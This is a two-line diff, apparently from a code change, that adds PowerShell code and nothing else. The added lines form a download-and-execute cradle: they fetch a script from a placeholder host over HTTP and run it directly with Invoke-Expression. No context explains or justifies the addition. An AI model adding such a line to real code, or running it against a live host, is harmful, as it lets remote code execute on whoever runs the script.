@@ -1,0 +1,2 @@
+$a = New-Object Net.WebClient
+Invoke-Expression $a.DownloadString('http://example.invalid/')
